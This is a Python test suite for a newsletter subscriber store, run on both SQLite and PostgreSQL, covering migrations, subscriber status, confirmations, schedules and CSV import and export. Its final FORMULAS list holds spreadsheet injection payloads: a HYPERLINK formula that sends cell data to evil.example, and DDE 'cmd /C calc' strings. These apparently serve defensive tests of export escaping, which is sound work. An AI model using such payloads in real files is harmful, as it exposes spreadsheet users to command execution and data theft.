"""The store's contract: what every database engine must do, tested on each of them.

Like Django's shared backend tests, one suite runs unchanged against every engine the
store supports: a test that takes the ``store`` fixture (or ``database``, see
tests/conftest.py) runs once on a SQLite file and once on a PostgreSQL database of the
test's own, and both must pass. An engine is supported when this suite, and the other
modules whose tests take those fixtures, are green on it; a difference between engines
is a bug in the store, not in the test. Tests that take ``db_path`` check what only
SQLite has (its file, WAL, the send lock beside the file, migrating old files); those
marked ``SQLITE_ONLY`` (tests/support) say why they run on SQLite alone.

The other modules in the contract: test_person, test_readers, test_mailboxes,
test_segments, test_send_segments, test_suppression and test_tags (their store tests).

Topics: subscribers, the subscription service, schedules and counts, CSV import and
export, and the delivery ledger.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import os
import random
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.db import Database, connect
from newsletter.errors import DeliveryError, StoreError
from newsletter.migrations import MIGRATIONS, migrate
from newsletter.models import (
    BounceKind,
    DeliveryResult,
    DeliveryState,
    RowError,
    ScheduleState,
    SenderRun,
    Status,
)
from newsletter.store import Store
from newsletter.store import subscribers as store_subscribers
from tests.support import REPO
from tests.support.delivery import record_bounce
from tests.support.postgres import PostgresServer

ISSUE = "2024-05"


@pytest.fixture
def db_path(tmp_path: Path) -> Path:
    return tmp_path / "state" / "newsletter.db"


@pytest.fixture
def pg(postgres_server: PostgresServer) -> Iterator[Database]:
    """A PostgreSQL database alone, for what only PostgreSQL does (several senders)."""
    database = postgres_server.new_database()
    try:
        yield database
    finally:
        postgres_server.drop_database(database)


def wait_until(condition: Callable[[], bool], timeout: float = 30.0) -> None:
    """Look again every few milliseconds until ``condition()`` holds (a lease that runs
    out is a condition on the database's clock: there is nothing to be told)."""
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, "the condition never held"
        threading.Event().wait(0.02)


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def add_many(store: Store, count: int) -> list[int]:
    return [store.add_subscriber(f"reader{i}@example.com", f"Reader {i}").id for i in range(count)]


def result(
    sub_id: int, state: DeliveryState, reply: str = "250 Ok", **kw: object
) -> DeliveryResult:
    return DeliveryResult(ISSUE, sub_id, state, reply, **kw)  # type: ignore[arg-type]


def child(code: str, *args: str) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.Popen(
        [sys.executable, "-c", code, *args],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env=env,
    )


# --- opening and migrations ---------------------------------------------------------------


def test_open_creates_folders_wal_and_latest_schema(db_path: Path) -> None:
    with Store.open(db_path) as db:
        assert db.schema_version == len(MIGRATIONS)
    conn = sqlite3.connect(db_path)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    tables = {r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"subscribers", "subscriber_events", "deliveries", "issue_sends"} <= tables


def test_migrations_are_versioned_and_idempotent(db_path: Path) -> None:
    db_path.parent.mkdir(parents=True)
    conn = sqlite3.connect(db_path, isolation_level=None)
    assert migrate(conn, MIGRATIONS[:1], where="x") == 1
    conn.execute(
        "INSERT INTO subscribers (email, email_key, status, created_at, updated_at,"
        " status_changed_at) VALUES ('a@example.com', 'a@example.com', 'active', 't', 't', 't')"
    )
    assert conn.execute("PRAGMA user_version").fetchone()[0] == 1
    conn.close()
    with Store.open(db_path) as db:  # applies only the later migrations, keeps the data
        assert db.schema_version == len(MIGRATIONS)
        assert db.count() == 1
    with Store.open(db_path) as db:  # nothing left to apply
        assert db.schema_version == len(MIGRATIONS)
        assert db.count() == 1


def test_a_newer_schema_is_refused(db_path: Path) -> None:
    Store.open(db_path).close()
    conn = sqlite3.connect(db_path)
    conn.execute(f"PRAGMA user_version = {len(MIGRATIONS) + 1}")
    conn.close()
    with pytest.raises(StoreError, match="upgrade newsletter"):
        Store.open(db_path)


def test_a_file_that_is_not_a_database_is_a_store_error(tmp_path: Path) -> None:
    bogus = write(tmp_path / "x.db", "this is not sqlite" * 100)
    with pytest.raises(StoreError, match="cannot use the database"):
        Store.open(bogus)


# --- subscribers ----------------------------------------------------------------------------


def test_email_is_unique_case_insensitively(store: Store) -> None:
    added = store.add_subscriber("Ann.Lee@Example.COM", "Ann", {"city": "Oslo"})
    assert added.email == "Ann.Lee@example.com"  # domain normalised, local part kept
    assert store.get_subscriber("ann.lee@EXAMPLE.com") == added
    assert store.get_subscriber(added.id) == added
    with pytest.raises(StoreError, match="already in the list"):
        store.add_subscriber("ANN.LEE@example.com")
    assert store.count() == 1


def test_subscriber_is_frozen_and_hashable(store: Store) -> None:
    sub = store.add_subscriber("a@example.com", "A", {"k": "v"})
    assert sub.fields == {"k": "v"}
    with pytest.raises(TypeError):
        sub.fields["k"] = "w"  # type: ignore[index]
    assert {sub: 1}[sub] == 1


def test_invalid_address_is_refused(store: Store) -> None:
    with pytest.raises(StoreError, match="invalid email address 'not-an-address'"):
        store.add_subscriber("not-an-address")


@pytest.mark.parametrize(
    ("name", "fields", "what"),
    [
        ("Ann\x00Lee", {}, "the name"),
        ("Ann", {"city": "Os\x00lo"}, "the field 'city'"),
        ("Ann", {"ci\x00ty": "Oslo"}, "the field name"),
    ],
)
def test_a_nul_character_is_refused_on_every_engine(
    store: Store, name: str, fields: dict[str, str], what: str
) -> None:
    """PostgreSQL cannot store NUL in text (nor \\u0000 in JSON): both engines refuse it."""
    with pytest.raises(StoreError, match="holds a NUL character") as info:
        store.add_subscriber("ann@example.com", name, fields)
    assert str(info.value).startswith(f"{store.database}: {what}")
    assert store.count() == 0 and store.field_names() == set()


def test_status_changes_are_recorded_as_events(store: Store) -> None:
    sub = store.add_subscriber("a@example.com")
    store.set_status("A@example.com", Status.UNSUBSCRIBED, "link", "clicked in issue 3")
    store.set_status(sub.id, Status.UNSUBSCRIBED, "again")  # unchanged: no event
    events = store.subscriber_events(sub.id)
    assert [(e.old_status, e.new_status, e.reason) for e in events] == [
        (None, Status.ACTIVE, "added"),
        (Status.ACTIVE, Status.UNSUBSCRIBED, "link"),
    ]
    assert events[1].detail == "clicked in issue 3"
    current = store.get_subscriber(sub.id)
    assert current is not None and current.status == Status.UNSUBSCRIBED
    assert current.status_changed_at >= current.created_at


def test_set_status_of_unknown_subscriber(store: Store) -> None:
    with pytest.raises(StoreError, match="no subscriber"):
        store.set_status("nobody@example.com", Status.BOUNCED, "x")


def test_list_pages_through_everyone_and_filters(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(store_subscribers, "PAGE", 3)
    ids = add_many(store, 10)
    store.set_status(ids[4], Status.BOUNCED, "test")
    assert [s.id for s in store.list_subscribers()] == ids
    assert [s.id for s in store.list_subscribers(Status.BOUNCED)] == [ids[4]]
    assert store.count() == 10
    assert store.count(Status.ACTIVE) == 9
    counts = store.count_by_status()
    assert counts[Status.ACTIVE] == 9 and counts[Status.BOUNCED] == 1
    assert counts[Status.COMPLAINED] == 0


def test_remove_refuses_with_ledger_rows_unless_forced(store: Store) -> None:
    kept, _other = add_many(store, 2)
    store.snapshot_recipients(ISSUE)
    with pytest.raises(StoreError, match="delivery record"):
        store.remove_subscriber(kept)
    store.remove_subscriber(kept, force=True)
    assert store.get_subscriber(kept) is None
    assert store.ledger_entry(ISSUE, kept) is None
    store.add_subscriber("fresh@example.com")
    store.remove_subscriber("FRESH@example.com")
    assert store.get_subscriber("fresh@example.com") is None
    assert store.count() == 1


def test_field_names_and_tag_counts(store: Store) -> None:
    store.add_subscriber("a@example.com", "A", {"City": "Oslo", "plan": "pro"})
    store.add_subscriber("b@example.com", "B", {"city": "Lyon"})
    store.add_subscriber("c@example.com")
    assert store.field_names() == {"city", "plan"}
    store.change_tags("a@example.com", add=["europe", "harbours"])
    store.change_tags("b@example.com", add=["europe"])
    assert store.tag_counts() == {"europe": 2, "harbours": 1}


# --- the subscription service ---------------------------------------------------------------

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)


def test_a_confirmation_is_reserved_once_and_released_when_it_cannot_go(store: Store) -> None:
    every = timedelta(minutes=10)
    first = store.request_confirmation("new@example.com", "New", resend_after=every, now=NOW)
    assert (first.send, first.created, first.previous_sent_at) == (True, True, None)
    assert first.subscriber.status == Status.PENDING
    soon = store.request_confirmation("new@example.com", resend_after=every, now=NOW)
    assert (soon.send, soon.created) == (False, False)
    store.release_confirmation(first)  # its email could not be sent
    assert store.confirmation_sent_at("new@example.com") is None
    again = store.request_confirmation(
        "new@example.com", resend_after=every, now=NOW + timedelta(minutes=1)
    )
    assert again.send and again.previous_sent_at is None
    later = store.request_confirmation(
        "new@example.com", resend_after=every, now=NOW + timedelta(minutes=20)
    )
    assert later.send and later.previous_sent_at == NOW + timedelta(minutes=1)
    record = store.person("new@example.com")
    assert record is not None and record.confirmation is not None
    assert record.confirmation.sends == 2
    store.release_confirmation(later)
    assert store.confirmation_sent_at("new@example.com") == NOW + timedelta(minutes=1)
    record = store.person("new@example.com")
    assert record is not None and record.confirmation is not None
    assert record.confirmation.sends == 1
    store.add_subscriber("active@example.com")
    assert not store.request_confirmation("active@example.com", resend_after=every).send


def test_prune_pending_deletes_only_form_sign_ups_nobody_confirmed_in_time(store: Store) -> None:
    old = NOW - timedelta(days=3)
    store.request_confirmation("old@example.com", resend_after=timedelta(0), now=old)
    store.request_confirmation("asked-again@example.com", resend_after=timedelta(0), now=old)
    store.request_confirmation(
        "asked-again@example.com", resend_after=timedelta(0), now=NOW - timedelta(hours=1)
    )
    confirmed = store.request_confirmation(
        "confirmed@example.com", resend_after=timedelta(0), now=old
    )
    store.confirm_subscription(confirmed.subscriber.id, issued_at=old)
    store.request_confirmation("fresh@example.com", resend_after=timedelta(0), now=NOW)
    store.add_subscriber("editor@example.com", status=Status.PENDING)  # the editor's data
    assert store.prune_pending(timedelta(hours=48), now=NOW) == 1
    assert store.get_subscriber("old@example.com") is None
    assert {s.email for s in store.list_subscribers()} == {
        "asked-again@example.com",
        "confirmed@example.com",
        "fresh@example.com",
        "editor@example.com",
    }
    assert store.prune_pending(timedelta(hours=48), now=NOW) == 0


# --- schedules and the counts the worker and /metrics read -----------------------------------


def test_a_schedule_moves_through_its_states(store: Store) -> None:
    late, early = NOW + timedelta(hours=2), NOW - timedelta(minutes=5)
    assert store.next_schedule_at() is None
    store.set_schedule("2024-06", late, zone="Europe/Oslo")
    entry = store.set_schedule("2024-05", early, source="issue.md")
    assert (entry.state, entry.send_at, entry.source, entry.zone) == (
        ScheduleState.SCHEDULED, early, "issue.md", ""
    )  # fmt: skip
    assert [e.issue_key for e in store.list_schedules()] == ["2024-05", "2024-06"]
    assert [e.issue_key for e in store.due_schedules(NOW)] == ["2024-05"]
    assert store.next_schedule_at() == early
    assert store.update_schedule("2024-05", ScheduleState.SENDING)
    with pytest.raises(DeliveryError, match="being sent by the worker"):
        store.set_schedule("2024-05", late)
    assert [e.issue_key for e in store.due_schedules(NOW)] == ["2024-05"]  # resumed
    assert not store.update_schedule(
        "2024-05", ScheduleState.CANCELLED, only_from=[ScheduleState.SCHEDULED]
    )
    assert not store.update_schedule("nope", ScheduleState.SENT)
    # Put off until not_before: not due before then, and the next time is then.
    wait = NOW + timedelta(hours=1)
    assert store.update_schedule("2024-05", ScheduleState.SCHEDULED, error="4xx", not_before=wait)
    put_off = store.get_schedule("2024-05")
    assert put_off is not None and (put_off.last_error, put_off.not_before) == ("4xx", wait)
    assert store.due_schedules(NOW) == []
    assert [e.issue_key for e in store.due_schedules(wait)] == ["2024-05"]
    assert store.next_schedule_at() == wait
    assert store.update_schedule("2024-05", ScheduleState.SENT)
    assert store.next_schedule_at() == late
    moved = store.set_schedule("2024-05", late)  # a finished one can be scheduled again
    assert (moved.state, moved.not_before, moved.last_error) == (ScheduleState.SCHEDULED, None, "")
    assert store.get_schedule("nope") is None


def test_deferred_rows_due_to_the_worker_and_the_days_sent_count(store: Store) -> None:
    a, b, c = add_many(store, 3)
    store.snapshot_recipients(ISSUE)
    store.claim_batch(ISSUE, "w", 3)
    retry = datetime.now(UTC) + timedelta(hours=1)
    store.record_results(
        [
            result(a, DeliveryState.DEFERRED, "451", retry_at=retry),
            result(b, DeliveryState.DEFERRED, "452"),  # parked for the next run
            result(c, DeliveryState.SENT),
        ]
    )
    now = datetime.now(UTC)
    assert store.deferred_due(now, parked_before=now - timedelta(hours=1)) == []
    assert store.deferred_due(now, parked_before=now + timedelta(minutes=1)) == [ISSUE]
    after = retry + timedelta(seconds=1)
    assert store.deferred_due(after, parked_before=now - timedelta(hours=1)) == [ISSUE]
    assert store.deferred_due(after, now - timedelta(hours=1), max_attempts=1) == []
    assert store.sent_since(now - timedelta(hours=1)) == 1
    assert store.sent_since(now + timedelta(hours=1)) == 0


def test_metric_counts_are_labels_and_numbers(store: Store) -> None:
    ids = add_many(store, 3)
    store.unsubscribe(ids[2], "link")
    store.snapshot_recipients(ISSUE)
    record_bounce(store, "reader1@example.com", BounceKind.SOFT, "4.2.2", "full", key="<b@mx>")
    store.set_schedule("2024-06", NOW)
    counts = {name: sorted(rows) for name, rows in store.metric_counts().items()}
    assert counts == {
        "subscribers": [("active", "2"), ("unsubscribed", "1")],
        "ledger": [(ISSUE, "queued", "2")],
        "events": [("active", "", "3"), ("unsubscribed", "active", "1")],
        "inbound": [("test", "applied", "1")],
        "bounces": [("soft", "1")],
        "schedules": [("scheduled", "1")],
    }


# --- import ---------------------------------------------------------------------------------


def test_import_bom_semicolons_and_fields(store: Store, tmp_path: Path) -> None:
    csv_file = write(
        tmp_path / "list.csv",
        "\ufeffEmail;Name;City;Plan\r\nann@example.com;Ann Lee;Oslo;pro\r\n"
        "bob@example.com;Bob;;\r\nchloe@example.com;Chloé;Lyon;free\r\n",
    )
    report = store.import_csv(csv_file)
    assert (report.rows, report.added, report.error_count) == (3, 3, 0)
    ann = store.get_subscriber("ann@example.com")
    assert ann is not None and ann.name == "Ann Lee"
    assert dict(ann.fields) == {"City": "Oslo", "Plan": "pro"}
    bob = store.get_subscriber("bob@example.com")
    assert bob is not None and dict(bob.fields) == {}  # empty cells are not fields
    chloe = store.get_subscriber("CHLOE@example.com")
    assert chloe is not None and chloe.name == "Chloé"


def test_addresses_that_need_smtputf8_are_refused_at_import(store: Store, tmp_path: Path) -> None:
    """Our transport does not speak SMTPUTF8: refuse now, not fail at send time."""
    csv_file = write(tmp_path / "list.csv", "email\njörg@example.com\nann@bücher.example\n")
    report = store.import_csv(csv_file)
    assert report.added == 1
    assert [e.line for e in report.errors] == [2]
    assert "before the @-sign" in report.errors[0].message
    assert store.get_subscriber("ann@xn--bcher-kva.example") is not None


def test_bad_rows_are_reported_with_line_numbers(store: Store, tmp_path: Path) -> None:
    csv_file = write(
        tmp_path / "list.csv",
        "email,name,note\n"
        "good@example.com,Good,\n"  # line 2
        "not-an-address,Bad,\n"  # line 3
        ",Nameless,x\n"  # line 4: no address
        "\n"  # line 5: blank, ignored
        "also@example,Bad domain,\n"  # line 6
        "fine@example.org,Fine,,extra\n"  # line 7: one cell too many
        f"long@example.org,{'N' * 201},\n"  # line 8: a name no one has
        f"last@example.org,{'L' * 200},\n",  # line 9
    )
    seen: list[RowError] = []
    report = store.import_csv(csv_file, on_error=seen.append)
    assert [e.line for e in report.errors] == [3, 4, 6, 7, 8]
    assert seen == list(report.errors)
    assert "invalid email address 'not-an-address'" in report.errors[0].message
    assert report.errors[1].message == "no email address"
    assert report.errors[4].message == "the name has 201 characters (at most 200)"
    assert report.added == 2 and report.error_count == 5 and report.rows == 7
    assert store.count() == 2


def stray_quote_list(tmp_path: Path, rows: int = 1_000, bad_line: int = 12) -> Path:
    """A list where one name opens a double quote it never closes."""
    lines = ["email,name", *(f"r{i}@example.com,Reader {i}" for i in range(rows))]
    lines[bad_line - 1] = 'r10@example.com,"Bob the builder'
    return write(tmp_path / "list.csv", "\n".join(lines) + "\n")


def test_a_stray_quote_is_an_error_at_its_line_and_imports_nothing(
    store: Store, tmp_path: Path
) -> None:
    """Once swallowed every later row into one name (11 of 1,000 imported, "0 bad rows")."""
    store.add_subscriber("already@example.com")
    csv_file = stray_quote_list(tmp_path)
    with pytest.raises(StoreError) as info:
        store.import_csv(csv_file)
    assert info.value.where == f"{csv_file}:12"
    assert "runs on to line 1001" in str(info.value)
    assert [s.email for s in store.list_subscribers()] == ["already@example.com"]


@pytest.mark.parametrize(
    "text",
    [
        'email,name\na@example.com,A\nb@example.com,"Two\nlines"\nc@example.com,C\n',
        'email,name\na@example.com,A\nb@example.com,"Two\r\nlines, quoted"\r\n',
        'email,note\na@example.com,x\nb@example.com,"unclosed\nc@example.com,"x"\n',
        'email,name\na@example.com,A\nb@example.com,"Bo"b\nc@example.com,"\nd@example.com,D',
    ],
)
def test_a_value_spanning_lines_is_an_error_where_it_opened(
    store: Store, tmp_path: Path, text: str
) -> None:
    csv_file = write(tmp_path / "list.csv", text)
    with pytest.raises(StoreError, match="a value cannot span lines") as info:
        store.import_csv(csv_file)
    opened = next(n for n, line in enumerate(text.splitlines(), 1) if line.count('"') % 2)
    assert info.value.where == f"{csv_file}:{opened}"
    assert store.count() == 0


def test_duplicates_merge_within_the_file_and_with_the_database(
    store: Store, tmp_path: Path
) -> None:
    store.add_subscriber("old@example.com", "Old Name", {"city": "Rome", "plan": "free"})
    store.add_subscriber("same@example.com", "Same")
    csv_file = write(
        tmp_path / "list.csv",
        "email,name,plan\n"
        "new@example.com,First,\n"
        "NEW@example.com,,pro\n"
        "new@EXAMPLE.com,Second,\n"
        "OLD@example.com,,paid\n"
        "same@example.com,Same,\n",
    )
    report = store.import_csv(csv_file)
    assert (report.added, report.updated, report.unchanged, report.duplicates) == (1, 1, 1, 2)
    assert report.rows == 5
    new = store.get_subscriber("new@example.com")
    assert new is not None
    assert (new.email, new.name, dict(new.fields)) == ("new@example.com", "Second", {"plan": "pro"})
    old = store.get_subscriber("old@example.com")
    assert old is not None and old.name == "Old Name"  # an empty cell keeps the old value
    assert dict(old.fields) == {"city": "Rome", "plan": "paid"}
    again = store.import_csv(csv_file)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 3)


def test_an_address_repeated_many_times_folds_in_line_order(store: Store, tmp_path: Path) -> None:
    """Later non-empty cells win, fields keep the order they first came in, the first
    status that stops mail stays, tags add up, the first dates stay."""
    csv_file = write(
        tmp_path / "list.csv",
        "email,name,b,a,tags,status,signup_date,consent_at\n"
        "rep@example.com,One,1,,x,,,\n"  # line 2
        "solo@example.com,Solo,,,,,,\n"
        "REP@example.com,,,2,y,active,2020-01-02,\n"
        "rep@example.com,Three,3,,,bounced,2019-05-05,2021-01-01\n"
        "Rep@Example.com,,,,z;x,unsubscribed,,2022-02-02\n"
        "rep@example.com,Five,,,,active,,\n",
    )
    report = store.import_csv(csv_file)
    assert (report.rows, report.added, report.duplicates, report.error_count) == (6, 2, 4, 0)
    assert dict(report.new_by_status) == {"active": 1, "bounced": 1}
    rep = store.get_subscriber("rep@example.com")
    assert rep is not None
    assert (rep.email, rep.name, rep.status) == ("rep@example.com", "Five", Status.BOUNCED)
    assert list(rep.fields.items()) == [("b", "3"), ("a", "2")]
    assert store.tags_of("rep@example.com") == ["x", "y", "z"]
    record = store.person("rep@example.com")
    assert record is not None and record.suppression is not None
    assert record.suppression.reason == "bounced"
    (consent,) = record.consents
    assert (consent.origin, consent.signed_up) == ("list.csv:2", "2020-01-02")
    assert consent.confirmed_at == datetime(2021, 1, 1, tzinfo=UTC)
    assert [s.email for s in store.list_subscribers()] == ["rep@example.com", "solo@example.com"]


def test_folding_many_repeats_matches_the_rules_row_by_row(store: Store, tmp_path: Path) -> None:
    """Repeats are merged in pairs, round after round; the result must be what applying
    the rules one row after another gives (uneven counts, up to 77 repeats)."""
    rng = random.Random(16)
    keys = [f"r{i}@example.com" for i in range(6)]
    order = [k for k, n in zip(keys, (1, 2, 3, 13, 33, 77), strict=True) for _ in range(n)]
    rng.shuffle(order)
    lines = ["email,name,b,a,c,tags,status,signup_date"]
    expected: dict[str, dict[str, object]] = {}
    for key in order:
        pick = rng.choice
        row = {
            "name": pick(["", "", "Ann", "Bo", f"N{rng.randrange(99)}"]),
            "b": pick(["", "", "1", "2"]),
            "a": pick(["", "x", "y"]),
            "c": pick(["", "", "", "z"]),
            "tags": pick(["", "", "t1", "t2;t3", "t3"]),
            "status": pick(["", "", "active", "pending", "bounced", "unsubscribed"]),
            "signup_date": pick(["", "", "2020-01-0" + str(rng.randrange(1, 9))]),
        }
        email = key.upper() if rng.random() < 0.3 else key
        lines.append(",".join([email, *row.values()]))
        now = expected.setdefault(
            key, {"name": "", "fields": {}, "status": "active", "tags": set(), "since": ""}
        )
        now["name"] = row["name"] or now["name"]
        fields = now["fields"]
        assert isinstance(fields, dict)
        fields.update({k: row[k] for k in ("b", "a", "c") if row[k]})
        if now["status"] == "active":
            now["status"] = row["status"] or "active"
        tags = now["tags"]
        assert isinstance(tags, set)
        tags.update(t for t in row["tags"].split(";") if t)
        now["since"] = now["since"] or row["signup_date"]
    report = store.import_csv(write(tmp_path / "many.csv", "\n".join(lines) + "\n"))
    assert (report.rows, report.duplicates, report.error_count) == (129, 123, 0)
    for key, want in expected.items():
        got = store.get_subscriber(key)
        assert got is not None
        record = store.person(key)
        assert record is not None
        held = {
            "name": got.name,
            "fields": dict(got.fields),
            "status": got.status.value,
            "tags": set(store.tags_of(key)),
            "since": record.consents[0].signed_up,
        }
        assert held == want, key
        assert list(got.fields) == list(want["fields"])  # type: ignore[call-overload]


def test_the_history_lists_the_tags_an_import_adds_in_byte_order(
    store: Store, tmp_path: Path
) -> None:
    for name in ("ann", "bob"):
        store.add_subscriber(f"{name}@example.com")
    store.change_tags("bob@example.com", add=["kept"])
    csv_file = write(
        tmp_path / "tags.csv",
        "email,tags\nbob@example.com,zeta;Kept;Émile;b-side\nann@example.com,mid;alpha\n"
        "bob@example.com,alpha\n",
    )
    assert store.import_csv(csv_file).updated == 2
    details = {
        name: store.subscriber_events(f"{name}@example.com")[-1].detail for name in ("ann", "bob")
    }
    assert details == {
        "ann": "file tags.csv: +alpha +mid",
        "bob": "file tags.csv: +alpha +b-side +zeta +émile",
    }


def test_a_nul_character_is_a_bad_row_at_its_line_and_column(store: Store, tmp_path: Path) -> None:
    """No text column of PostgreSQL can hold a NUL: a row with one is a bad row (on both
    engines alike), the rest of the file goes in."""
    csv_file = write(
        tmp_path / "list.csv",
        "email,name,city\nann@example.com,Ann,Oslo\nbob@example.com,B\x00b,Rome\n"
        "carl@example.com,Carl,Li\x00ma,\x00\n\x00\ndana@example.com,Dana,\n",
    )
    report = store.import_csv(csv_file)
    assert [(e.line, e.message) for e in report.errors] == [
        (3, "column 'name' holds a NUL character: remove it"),
        (4, "column 'city' holds a NUL character: remove it"),
        (5, "column 'email' holds a NUL character: remove it"),
    ]
    assert (report.rows, report.added) == (5, 2)
    assert [s.email for s in store.list_subscribers()] == ["ann@example.com", "dana@example.com"]


def test_a_nul_character_in_a_column_name_refuses_the_file(store: Store, tmp_path: Path) -> None:
    csv_file = write(tmp_path / "list.csv", "email,ci\x00ty\nann@example.com,Oslo\n")
    with pytest.raises(StoreError, match="a column name holds a NUL character") as caught:
        store.import_csv(csv_file)
    assert caught.value.where == f"{csv_file}:1"
    assert store.count() == 0


def test_an_address_suppressed_while_the_file_is_read_is_still_left_out(
    store: Store, database: Database, tmp_path: Path
) -> None:
    """Nothing was suppressed when the import began (so no row was hashed); by the merge
    an address of the file was: it is hashed then and left out."""
    csv_file = write(
        tmp_path / "list.csv", "email,name\nbroken,X\nleft@example.com,L\nnew@example.com,N\n"
    )

    def meanwhile(error: RowError) -> None:
        with Store.open(database) as other:  # another process, during the read
            other.add_subscriber("left@example.com")
            other.remove_subscriber("left@example.com")

    report = store.import_csv(csv_file, on_error=meanwhile)
    assert (report.added, report.suppressed, report.error_count) == (1, 1, 1)
    assert [s.email for s in store.list_subscribers()] == ["new@example.com"]


# Every path of the merge: new rows of each status, duplicates, fields merged into an
# existing subscriber, tags new and known, dates, a suppressed address, bad rows.
SAME_ON_BOTH = (
    "email,name,city,plan,tags,status,signup_date,consent_at\n"
    "ann@example.com,Ann,Oslo,,europe;harbours,,2024-03-01,\n"
    "ANN@example.com,,Bergen,pro,ferries,,2023-01-01,2024-03-02 10:00:00\n"
    "bob@example.com,Bob,,,,unsubscribed,,\n"
    "carl@example.com,Carl,Rome,free,b-tag;A-tag,,,\n"
    "old@example.com,,Lyon,,zeta;alpha;kept,,,\n"
    "gone@example.com,Gone,,,,,,\n"
    "dana@example.com,Dana,,,,cleaned,,\n"
    "bad-address,X,,,,,,\n"
    "eve@example.com,E\x00ve,,,,,,\n"
    "ann@example.com,Ann Again,,,europe,complained,,\n"
    "quit@example.com,Q,,,news,,,\n"
    'fay@example.com,Fay,"Sète, ""port""",,,pending,2022-12-31T23:59:59Z,\n'
)


def _before_the_import(store: Store) -> None:
    store.add_subscriber("old@example.com", "Old", {"city": "Paris", "plan": "free"})
    store.change_tags("old@example.com", add=["kept"])
    store.add_subscriber("gone@example.com")
    store.remove_subscriber("gone@example.com")
    store.add_subscriber("quit@example.com", "Quit")
    store.unsubscribe("quit@example.com", "link")


def _list_of(store: Store) -> list[tuple[object, ...]]:
    """What the list holds, without the times of this run."""
    held: list[tuple[object, ...]] = []
    for sub in sorted(store.list_subscribers(), key=lambda s: s.email):
        record = store.person(sub.email)
        assert record is not None
        held.append(
            (
                sub.email,
                sub.name,
                list(sub.fields.items()),
                sub.status,
                store.tags_of(sub.email),
                [(c.source, c.origin, c.signed_up, c.confirmed_at) for c in record.consents],
                [(e.old_status, e.new_status, e.reason, e.detail) for e in record.events],
            )
        )
    for address in ("ann", "bob", "dana", "gone", "quit", "eve", "nobody"):
        entry = store.suppression(f"{address}@example.com")
        held.append((address, None if entry is None else entry.reason))
    return held


def test_one_file_gives_the_same_list_on_both_engines(
    tmp_path: Path, postgres_server: PostgresServer
) -> None:
    csv_file = write(tmp_path / "list.csv", SAME_ON_BOTH)
    lists, reports = [], []
    for database in (Database.parse(tmp_path / "n.db"), postgres_server.new_database()):
        with Store.open(database) as store:
            _before_the_import(store)
            dry = store.import_csv(csv_file, dry_run=True)
            report = store.import_csv(csv_file)
            assert dataclasses.replace(dry, dry_run=False) == report
            lists.append(_list_of(store))
            reports.append(report)
    assert lists[0] == lists[1]
    assert reports[0] == reports[1]
    report = reports[0]
    assert (report.added, report.updated, report.unchanged, report.suppressed) == (5, 1, 0, 1)
    assert (report.skipped_inactive, report.duplicates, report.error_count) == (1, 2, 2)
    assert dict(report.new_by_status) == {
        "active": 1,
        "bounced": 1,
        "complained": 1,
        "pending": 1,
        "unsubscribed": 1,
    }


def test_import_never_reactivates(store: Store, tmp_path: Path) -> None:
    for address, status in [
        ("u@example.com", Status.UNSUBSCRIBED),
        ("b@example.com", Status.BOUNCED),
        ("c@example.com", Status.COMPLAINED),
    ]:
        store.add_subscriber(address, "Old")
        store.set_status(address, status, "test")
    csv_file = write(
        tmp_path / "list.csv",
        "email,name,status\nU@example.com,New,active\nb@example.com,New,\nc@example.com,New,\n",
    )
    report = store.import_csv(csv_file)
    assert report.skipped_inactive == 3 and report.added == 0 and report.updated == 0
    for address in ("u@example.com", "b@example.com", "c@example.com"):
        sub = store.get_subscriber(address)
        assert sub is not None and sub.status != Status.ACTIVE and sub.name == "Old"


def test_status_column_keeps_suppressions_of_new_rows(store: Store, tmp_path: Path) -> None:
    csv_file = write(
        tmp_path / "list.csv",
        "email,status\ngone@example.com,unsubscribed\nhere@example.com,\nodd@example.com,vip\n"
        "sub@example.com,Subscribed\nclean@example.com,cleaned\n",
    )
    report = store.import_csv(csv_file)
    assert report.added == 4 and [e.line for e in report.errors] == [4]
    assert "unknown status 'vip'" in report.errors[0].message
    statuses = {s.email: s.status for s in store.list_subscribers()}
    assert statuses == {
        "gone@example.com": Status.UNSUBSCRIBED,
        "here@example.com": Status.ACTIVE,
        "sub@example.com": Status.ACTIVE,
        "clean@example.com": Status.BOUNCED,
    }


def test_the_example_list_imports(store: Store) -> None:
    report = store.import_csv(REPO / "examples" / "subscribers.csv")
    assert (report.added, report.error_count) == (11, 0)
    assert store.count(Status.ACTIVE) == 10
    ines = store.get_subscriber("ines.moreau@example.net")
    assert ines is not None and ines.status == Status.UNSUBSCRIBED
    freya = store.get_subscriber("freya.lindgren@example.net")
    assert freya is not None and freya.email == "Freya.Lindgren@example.net"


def test_export_then_import_round_trips(store: Store, tmp_path: Path) -> None:
    store.add_subscriber("a@example.com", 'Ann, "the" first', {"city": "Oslo"})
    store.add_subscriber("b@example.com", "Bo", {"plan": "pro"})
    store.set_status("b@example.com", Status.UNSUBSCRIBED, "test")
    out = io.StringIO()
    assert store.export_csv(out) == 2
    csv_file = write(tmp_path / "export.csv", out.getvalue())
    with Store.open(":memory:") as fresh:
        report = fresh.import_csv(csv_file)
        assert report.added == 2 and report.error_count == 0
        pairs = {
            (s.email, s.name, s.status, tuple(s.fields.items())) for s in fresh.list_subscribers()
        }
    assert pairs == {
        ("a@example.com", 'Ann, "the" first', Status.ACTIVE, (("city", "Oslo"),)),
        ("b@example.com", "Bo", Status.UNSUBSCRIBED, (("plan", "pro"),)),
    }


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
    "''+twice",
]


